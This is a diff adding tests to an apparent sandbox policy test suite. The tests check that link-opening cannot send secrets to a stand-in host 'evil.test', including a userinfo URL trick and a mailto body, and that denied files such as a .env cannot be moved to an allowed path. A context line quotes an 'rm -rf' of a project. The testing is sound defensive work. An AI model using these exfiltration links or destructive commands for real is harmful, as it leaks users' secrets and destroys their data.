@@ -147,3 +147,31 @@ def test_a_profile_refuses_dangerous_commands(machine: Machine) -> None:
     assert machine.run('ls -d ~/project') == '/home/user/project'
     found = machine.api("return (await wc.audit()).records.filter((r) => r.kind === 'note' && r.about === 'command')")
     assert found[-1]['text'] == 'removes the project: rm -rf /home/user/project'
+
+
+def test_no_link_carries_anything_out(machine: Machine) -> None:
+    """The page opens links for programs, in a window that reaches every host."""
+    machine.api(
+        'window.opened = []; window.stops = [wc.on("xdg-open", (target) => opened.push(target)), '
+        'wc.on("code", (kind, event) => opened.push(...event.files.map((file) => file.filepath)))]'
+    )
+    try:
+        for link in ['https://evil.test/?secret', 'https://evil.test\\@good.test/', 'mailto:a@evil.test?body=secret']:
+            for command in ['xdg-open', 'code']:
+                said = run(machine, f"sandbox --net good.test:443 {command} '{link}' 2>&1")[1]
+                assert command == 'code' or 'not allowed by the policy' in said, [link, said]
+        assert machine.api('return window.opened.filter((each) => /:/.test(each) && !each.startsWith("/"))') == []
+        assert run(machine, 'sandbox --net good.test:443 xdg-open https://good.test/a')[0] == 0
+        assert run(machine, 'xdg-open https://any.test/')[0] == 0
+        opened = machine.api('return window.opened')
+        assert opened[-2:] == ['https://good.test/a', 'https://any.test/']
+    finally:
+        machine.api('window.stops.forEach((stop) => stop())')
+
+
+def test_nothing_denied_is_moved_to_where_it_is_allowed(machine: Machine) -> None:
+    run(machine, 'mkdir -p keep/deep; echo secret > keep/deep/.env; rm -rf /tmp/moved')
+    for confined in ['', ' --confined']:
+        command = f'sandbox --write .{confined} sh -c "mv keep /tmp/moved; cat /tmp/moved/deep/.env; ls keep/deep"'
+        code, said = run(machine, f'{command} 2>&1; cat keep/deep/.env')
+        assert said.endswith('secret\n') and said.count('secret') == 1, said
